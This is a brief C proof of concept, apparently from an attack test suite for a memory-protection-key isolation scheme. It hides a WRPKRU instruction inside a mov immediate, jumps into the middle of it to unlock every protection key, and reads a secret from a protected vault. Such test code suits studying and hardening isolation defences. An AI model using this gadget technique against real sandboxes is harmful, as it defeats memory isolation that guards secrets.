/* A WRPKRU hidden inside another instruction's immediate, reached by
 * jumping into the middle of it: mov $0xc3ef010f, %eax is b8 0f 01 ef c3,
 * and from its second byte the CPU sees wrpkru; ret. */
#include "attack.h"

__asm__(".text\n"
        ".globl hidden_gadget_host\n"
        ".type hidden_gadget_host, @function\n"
        "hidden_gadget_host:\n"
        "    movl $0xc3ef010f, %eax\n"
        "    ret\n"
        ".size hidden_gadget_host, .-hidden_gadget_host\n");
void hidden_gadget_host(void);

int main(void)
{
    vault_open();
    void *gadget = (char *)hidden_gadget_host + 1;
    __asm__ volatile("xor %%eax, %%eax\n xor %%ecx, %%ecx\n xor %%edx, %%edx\n call *%0"
                     ::"r"(gadget) : "rax", "rcx", "rdx", "memory");
    read_secret_at(VAULT_DATA, vault_address(VAULT_DATA)->secret);
}
